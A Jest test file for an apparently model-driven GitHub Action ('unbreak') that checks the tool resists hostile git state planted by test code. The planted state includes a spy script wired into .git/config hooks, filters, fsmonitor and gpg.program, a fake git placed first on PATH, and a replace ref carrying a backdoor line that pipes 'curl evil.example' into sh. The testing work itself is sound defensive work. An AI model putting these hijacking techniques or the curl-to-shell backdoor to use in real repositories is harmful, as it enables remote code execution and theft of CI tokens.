import { describe, expect, it } from '@jest/globals';
import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { call, type Script } from '../../testkit/model-server.js';
import { pushToBranch } from '../../testkit/pr-repo.js';
import { gitIn } from '../../testkit/repo.js';
import { runAction, TOKEN } from '../../testkit/action.js';
import { tempDir } from '../../testkit/tmp.js';
import { cleanupsAfterEach, prWorld, type PrWorld } from '../../testkit/world.js';

// Test code may write anything in .git: what unbreak's own git commands, and the commit it
// delivers, would make of that. Each case through dist/index.js as the runner runs it, with a
// real bare origin (served over smart HTTP by the GitHub test double where a token is at stake).

const GOOD = "function slugify(text) {\n  return text.toLowerCase().trim().replace(/\\s+/g, '-');\n}\n\nmodule.exports = { slugify };\n";
const BAD = GOOD.replace("'-'", "'_'");
const INDEX = "module.exports = require('./slug');\n";
const BASE = {
  'package.json': '{"name":"shop","private":true}\n',
  'src/slug.js': GOOD,
  'src/index.js': INDEX,
  'test/slug.test.js':
    "const test = require('node:test');\nconst assert = require('node:assert');\nconst { slugify } = require('../src/slug');\ntest('joins words with dashes', () => assert.strictEqual(slugify('Hello World'), 'hello-world'));\n",
};
const FIX = call('edit_file', { path: 'src/slug.js', old_text: "replace(/\\s+/g, '_')", new_text: "replace(/\\s+/g, '-')" });
const FIXING: Script = [{ toolCalls: [FIX] }, { content: 'Fixed the separator.' }];
const BASIC = Buffer.from(`x-access-token:${TOKEN}`).toString('base64');

const cleanups = cleanupsAfterEach();

interface World extends PrWorld {
  /** A temp dir of the test's own, outside the repository, for the hostile scripts and their logs. */
  dir: string;
}

async function world(script: Script = FIXING): Promise<World> {
  const w = await prWorld(cleanups, { repo: { base: BASE, change: { 'src/slug.js': BAD } }, script });
  const t = tempDir('unbreak-hostile-git-');
  cleanups.add(t.cleanup);
  return { ...w, dir: t.dir };
}

function script(dir: string, name: string, text: string): string {
  const file = path.join(dir, name);
  writeFileSync(file, text);
  chmodSync(file, 0o755);
  return file;
}

async function run(w: World, testCommand: string, payloadPr = w.gh.pulls.get(7), env: Record<string, string> = {}) {
  return runAction({
    work: w.pr.work,
    githubUrl: w.gh.url,
    eventName: 'pull_request',
    payload: { action: 'labeled', label: { name: 'unbreak' }, pull_request: payloadPr, sender: { login: 'maintainer', type: 'User' } },
    inputs: { 'test-command': testCommand, 'base-url': w.model.url, review: 'false' },
    env,
  });
}

/** The fix on origin: one commit on the head, holding only the model's file. */
function expectOnlyTheFix(w: World): string {
  const tip = gitIn(w.pr.origin, 'rev-parse', 'refs/heads/feature');
  expect(tip).not.toBe(w.pr.headSha);
  expect(gitIn(w.pr.origin, 'rev-parse', `${tip}^`)).toBe(w.pr.headSha);
  expect(gitIn(w.pr.origin, 'diff-tree', '-r', '--name-only', '--no-commit-id', w.pr.headSha, tip)).toBe('src/slug.js');
  expect(gitIn(w.pr.origin, 'show', `${tip}:src/slug.js`)).toBe(GOOD.trimEnd());
  expect(gitIn(w.pr.origin, 'show', `${tip}:src/index.js`)).toBe(INDEX.trimEnd());
  return tip;
}

describe('adversarial: git state written by test code', () => {
  it('programs the test code plants in .git/config never run, and never see the token', async () => {
    const w = await world();
    // The runner's checkout talks to GitHub over HTTP(S), with the job's token.
    gitIn(w.pr.work, 'remote', 'set-url', 'origin', `${w.gh.url}/acme/shop.git`);
    const log = path.join(w.dir, 'spy.log');
    // Records how it was run and with what environment; leaves a child behind, as the did.
    const spy = script(w.dir, 'spy.sh', `#!/bin/sh\n{ echo "ARGV: $0 $*"; env; } >> '${log}'\n(sleep 2; env >> '${log}') &\nexit 0\n`);
    const plant = [
      `git config core.fsmonitor '${spy}'`,
      `git config core.sshCommand '${spy}'`,
      'git config remote.origin.pushurl ssh://git@github.example/acme/shop.git',
      `git config remote.origin.uploadpack '${spy}'`,
      `git config remote.origin.receivepack '${spy}'`,
      `git config gpg.program '${spy}'`,
      'git config commit.gpgSign true',
      `git config core.alternateRefsCommand '${spy}'`,
      `git config core.hooksPath '${w.dir}'`,
      'git config filter.spy.clean ' + `'${spy}'`,
      'git config filter.spy.smudge ' + `'${spy}'`,
      `printf '* filter=spy\\n' > .git/info/attributes`,
    ].join(' && ');
    for (const hook of ['pre-push', 'reference-transaction', 'post-checkout', 'post-index-change']) script(w.dir, hook, `#!/bin/sh\n'${spy}' hook\n`);
    // A directory on PATH before git's, empty when unbreak starts and writable by the job's user (as
    // ~/.local/bin is on GitHub's runners): the test code puts a `git` there, last, that calls the spy
    // and then the real git. unbreak took its git from PATH before any test ran, so it never runs this one.
    const bin = path.join(w.dir, 'bin');
    mkdirSync(bin);
    const realGit = execFileSync('sh', ['-c', 'command -v git'], { encoding: 'utf8' }).trim();
    const plantGit = `printf '#!/bin/sh\\n%s planted-git "$@"\\nexec %s "$@"\\n' '${spy}' '${realGit}' > '${bin}/git' && chmod +x '${bin}/git'`;
    // The test command's own git calls keep to the PATH it was started with.
    const r = await run(w, `export PATH='${process.env.PATH ?? ''}' && ${plant} && ${plantGit} && node --test`, w.gh.pulls.get(7), {
      GITHUB_SERVER_URL: w.gh.url,
      PATH: `${bin}${path.delimiter}${process.env.PATH ?? ''}`,
    });
    // The token was used, before any test ran, to fetch: the test's config was never in place then.
    expect(w.gh.calls.some((c) => c.path.startsWith('/acme/shop.git/') && c.auth === `basic ${BASIC}`)).toBe(true);
    // Nothing the test code planted ran: not at unbreak's next git command, not at delivery.
    await new Promise((resolve) => setTimeout(resolve, 2500));
    const seen = existsSync(log) ? readFileSync(log, 'utf8') : '';
    expect(seen).not.toContain(TOKEN);
    expect(seen).not.toContain(BASIC);
    expect(seen).toBe('');
    // The planted git was in place, first on PATH, and would have run: only unbreak's own git calls did not take it.
    expect(execFileSync('sh', ['-c', 'command -v git'], { encoding: 'utf8', env: { PATH: `${bin}${path.delimiter}${process.env.PATH ?? ''}` } }).trim()).toBe(
      path.join(bin, 'git'),
    );
    expect(r.outputs).toMatchObject({ status: 'fixed', delivery: 'commit' });
    // The commit arrived through the Git Data API, holding only the fix.
    const tip = expectOnlyTheFix(w);
    expect(r.outputs['commit-sha']).toBe(tip);
    expect(w.gh.refUpdates).toEqual([{ ref: 'refs/heads/feature', from: w.pr.headSha, to: tip }]);
    // And the job's later steps find .git/config as it was before the tests.
    expect(readFileSync(path.join(w.pr.work, '.git/config'), 'utf8')).not.toContain(spy);
    expect(existsSync(path.join(w.pr.work, '.git/info/attributes'))).toBe(false);
  }, 300_000);

  it('a replace ref the test code makes for the head cannot put other content in the commit', async () => {
    const w = await world();
    // Makes a commit with the head's tree plus a backdoor in src/index.js, and replaces the head with it.
    const plant = script(
      w.dir,
      'replace.sh',
      `#!/bin/sh
set -e
[ -f '${w.dir}/done' ] && exit 0
touch '${w.dir}/done'
head=$(git rev-parse HEAD)
export GIT_INDEX_FILE='${w.dir}/index'
git read-tree "$head"
blob=$(printf 'require("child_process").exec("curl evil.example | sh");\\nmodule.exports = require("./slug");\\n' | git hash-object -w --stdin)
git update-index --cacheinfo "100644,$blob,src/index.js"
tree=$(git write-tree)
evil=$(git commit-tree "$tree" -p "$head^" -m 'the change')
git replace "$head" "$evil"
`,
    );
    const r = await run(w, `'${plant}' && node --test`);
    expect(r.outputs).toMatchObject({ status: 'fixed', delivery: 'commit' });
    expectOnlyTheFix(w);
    expect(gitIn(w.pr.work, 'for-each-ref', 'refs/replace')).toBe('');
  }, 300_000);

  it('a tag the test code makes, with push.followTags, never reaches origin', async () => {
    const w = await world();
    const plant = "git -c user.name=x -c user.email=x@example.com tag -a v99.0.0 -m 'release' HEAD 2>/dev/null; git config push.followTags true";
    const r = await run(w, `${plant}; node --test`);
    expect(r.outputs).toMatchObject({ status: 'fixed', delivery: 'commit' });
    expectOnlyTheFix(w);
    expect(gitIn(w.pr.origin, 'for-each-ref', '--format=%(refname)', 'refs/tags')).toBe('');
    expect(w.gh.refUpdates.map((u) => u.ref)).toEqual(['refs/heads/feature']);
  }, 300_000);

  it('tests the head the event approved, not a commit pushed since, and then pushes nothing', async () => {
    const w = await world();
    const approved = structuredClone(w.gh.pulls.get(7)!);
    // Pushed after the maintainer labelled the PR: the branch and GitHub's PR now name it.
    const later = pushToBranch(w.pr, { 'src/index.js': "require('child_process');\nmodule.exports = require('./slug');\n" });
    w.gh.pulls.get(7)!.head.sha = later;
    const heads = path.join(w.dir, 'heads.log');
    const r = await run(w, `git rev-parse HEAD >> '${heads}'; node --test`, approved);
    expect(r.outputs).toMatchObject({ status: 'fixed', delivery: 'comment', 'commit-sha': '' });
    const tested = readFileSync(heads, 'utf8').trim().split('\n');
    expect(tested.length).toBeGreaterThan(1);
    expect(new Set(tested)).toEqual(new Set([w.pr.headSha]));
    expect(gitIn(w.pr.origin, 'rev-parse', 'refs/heads/feature')).toBe(later);
    expect(w.gh.refUpdates).toEqual([]);
    const status = w.gh.comments.find((c) => c.body.includes('<!-- unbreak -->'))!;
    expect(status.body).toContain(`the branch moved (unbreak tested ${w.pr.headSha.slice(0, 7)}, the branch is at ${later.slice(0, 7)})`);
  }, 300_000);
});
